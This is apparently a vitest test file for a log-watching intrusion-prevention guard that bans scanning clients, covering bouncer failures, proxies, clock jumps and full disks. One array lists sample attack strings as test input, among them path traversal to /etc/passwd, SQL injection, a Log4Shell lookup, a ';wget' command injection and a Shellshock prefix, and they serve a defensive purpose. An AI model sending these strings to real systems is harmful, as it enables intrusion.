import { spawnSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { array, assert, asyncProperty, constantFrom, record } from 'fast-check';
import { afterEach, expect, test } from 'vitest';
import type { Bouncer } from '../bouncers/bouncer.ts';
import { defaultPolicy } from '../decisions/policy.ts';
import type { Incident } from '../incidents/incident.ts';
import { formats } from '../logs/formats.ts';
import { pack } from '../scenarios/pack/pack.ts';
import { atCrowdsec } from '../test/crowdsec-cases.ts';
import { names, nobodySpared, noon, ranges, temporary } from '../test/desk.ts';
import { forgeries, proxy, servers } from '../test/server-lines.ts';
import { ordinaryTraffic } from '../test/traffic.ts';
import { Guard, type GuardOptions } from './guard.ts';

const cleaning: (() => unknown)[] = [];
afterEach(() => {
  for (const clean of cleaning.splice(0)) clean();
});

function start(given: Partial<GuardOptions> = {}) {
  const logged: string[] = [];
  const enforced: string[][] = [];
  const incidents: Incident[] = [];
  let clock = noon;
  let next = 0;
  const bouncer: Bouncer = {
    name: 'test',
    enforce: async (decisions) => {
      enforced.push(decisions.map(({ value }) => value));
    },
  };
  const guard = new Guard({
    scenarios: pack,
    journalPath: join(temporary(), 'decisions.log'),
    policy: defaultPolicy,
    shadowMs: 0,
    never: nobodySpared,
    bouncers: [bouncer],
    sinks: [{ name: 'test', send: async (all) => void incidents.push(...all) }],
    now: () => clock,
    newId: () => `d${++next}`,
    log: (message) => logged.push(message),
    names: names(),
    ...given,
  });
  const feed = async (lines: readonly string[], format = 'nginx', context = atCrowdsec) => {
    for (const line of lines) {
      const event = formats[format]?.(line, context);
      if (event) guard.pour(event);
    }
    await guard.settled();
  };
  return { guard, feed, logged, enforced, incidents, pass: (ms: number) => (clock += ms) };
}

const attacker = '203.0.113.9';
const scan = (client = attacker, count = 15) =>
  Array.from(
    { length: count },
    (_, n) => `${client} - - [10/Oct/2025:12:00:${10 + n} +0000] "GET /p${n}.php HTTP/1.1" 404 1 "-" "x"`,
  );

test('an attack is banned, told, and over when its time has come', async () => {
  const { guard, feed, enforced, incidents, pass } = start();
  await feed(scan());
  await guard.beat();
  await guard.beat();
  await guard.tidy();
  pass(5 * 3_600_000);
  await guard.beat();
  expect(enforced).toEqual([[attacker], []]);
  expect(incidents).toMatchObject([{ kind: 'background', sources: [attacker], decisions: ['d1'] }]);
});

test('after a restart the same clients are banned', async () => {
  const journalPath = join(temporary(), 'decisions.log');
  const first = start({ journalPath });
  await first.feed(scan());
  await first.guard.finish();
  const second = start({ journalPath });
  await second.guard.beat();
  expect(second.enforced).toEqual([[attacker]]);
});

test('a bouncer that fails is tried again and told once', async () => {
  let broken = true;
  const enforced: number[] = [];
  const bouncer: Bouncer = {
    name: 'moody',
    enforce: async (decisions) => {
      if (broken) throw new Error('not now');
      enforced.push(decisions.length);
    },
  };
  const { guard, feed, logged } = start({ bouncers: [bouncer] });
  await feed(scan());
  await guard.beat();
  await guard.beat();
  broken = false;
  await guard.beat();
  expect(enforced).toEqual([1]);
  expect(logged.filter((line) => line.includes('moody'))).toHaveLength(2);
});

test('a bouncer that hangs doesn’t keep the others from working', async () => {
  const enforced: number[] = [];
  const hanging: Bouncer = { name: 'hanging', enforce: () => new Promise(() => undefined) };
  const quick: Bouncer = {
    name: 'quick',
    enforce: async (decisions) => void enforced.push(decisions.length),
  };
  const { guard, feed } = start({ bouncers: [hanging, quick] });
  await feed(scan());
  await guard.beat();
  await feed(scan('203.0.113.10'));
  await guard.beat();
  expect(enforced).toEqual([1, 2]);
});

test('nobody is decided about in ordinary traffic', async () => {
  const { guard, feed } = start();
  const lines = ordinaryTraffic(200);
  await feed(lines);
  expect(lines.length).toBeGreaterThan(10_000);
  expect(guard.journal.all()).toEqual([]);
});

test('when the logs name only the proxy it is reported and never banned', async () => {
  const { guard, feed, logged } = start();
  const lines = ordinaryTraffic(60).map((line) => line.replace(/^\S+/, '10.0.0.1'));
  await feed([...lines, ...scan('10.0.0.1')]);
  expect(guard.journal.all()).toEqual([]);
  expect(logged.filter((line) => line.includes('your own proxy'))).toHaveLength(1);
});

test('a clock that jumps ahead and back bans nobody', async () => {
  const { guard, feed } = start();
  const quiet = (n: number) =>
    `198.51.100.7 - - [10/Oct/2025:12:${String(n % 60).padStart(2, '0')}:00 +0000] "GET /gone${n} HTTP/1.1" 404 1 "-" "x"`;
  const future = quiet(0).replace('2025', '2031');
  await feed([future, ...Array.from({ length: 25 }, (_, n) => quiet(n)), future]);
  expect(guard.journal.all()).toEqual([]);
});

const innocent = '198.51.100.77';
const behindProxy = { ...atCrowdsec, trusted: ranges(proxy) };

test.each(servers.map((server) => [server.name, server] as const))(
  'attack: one bad request to %s, repeated at will, never blocks an innocent client',
  async (_, { format, write }) => {
    await assert(
      asyncProperty(forgeries(write, innocent), async (sent) => {
        const { guard, feed } = start({ journalPath: join(temporary(), 'd.log') });
        for (let time = 0; time < 25; time++)
          await feed([write(attacker, { ...sent, request: `${sent.request}${time}` })], format, behindProxy);
        expect(guard.journal.all().filter(({ value }) => value !== attacker)).toEqual([]);
        guard.journal.close();
      }),
      { numRuns: 8 },
    );
  },
  60_000,
);

test('attack: one bad request that an innocent client was made to send blocks it nowhere', async () => {
  const text = array(constantFrom(...exploits), { maxLength: 3 }).map((parts) => parts.join(''));
  await assert(
    asyncProperty(
      constantFrom(...servers),
      record({ request: text, agent: text, referrer: text, user: text }),
      async ({ format, write }, sent) => {
        const { guard, feed } = start({ journalPath: join(temporary(), 'd.log') });
        await feed([write(innocent, sent)], format, behindProxy);
        expect(guard.journal.all()).toEqual([]);
        guard.journal.close();
      },
    ),
    { numRuns: 200 },
  );
}, 60_000);

/** What a page of an attacker could have a visitor's browser ask for. */
const exploits = [
  ...[
    'GET /../../../etc/passwd HTTP/1.1',
    "?id=1' or '1'='1",
    '\x24{jndi:ldap://x}',
    '/.env',
    '/wp-login.php',
  ],
  ...[
    '?q=<script>alert(1)</script>',
    ';wget http://x/a',
    '/c99.php',
    '/eval-stdin.php',
    'sqlmap/1.7',
    '() { :; };',
  ],
];

const small = () => {
  const directory = join(temporary(), 'full');
  mkdirSync(directory);
  const mounted = spawnSync('mount', ['-t', 'tmpfs', '-o', 'size=64k', 'tmpfs', directory]).status === 0;
  if (mounted) cleaning.push(() => spawnSync('umount', ['-l', directory]));
  return mounted ? directory : null;
};

test('a full disk stops neither the watch nor the bans, and what was decided is written later', async (context) => {
  const directory = small();
  if (directory === null) return context.skip('needs the right to mount a small file system');
  const { guard, feed, enforced } = start({ journalPath: join(directory, 'decisions.log') });
  const filler = join(directory, 'filler');
  let size = 60_000;
  while (size > 0) {
    try {
      writeFileSync(filler, Buffer.alloc(size), { flag: 'a' });
    } catch (error) {
      if (!(error instanceof Error && 'code' in error && error.code === 'ENOSPC')) throw error;
      size = Math.floor(size / 2);
    }
  }
  for (let last = 1; last <= 12; last++) await feed(scan(`203.0.113.${last}`));
  await guard.beat();
  expect(enforced.at(-1)?.length).toBe(12);
  expect(guard.journal.unwritten).toBeGreaterThan(0);
  writeFileSync(filler, '');
  await feed(scan('203.0.113.13'));
  expect(guard.journal.unwritten).toBe(0);
});
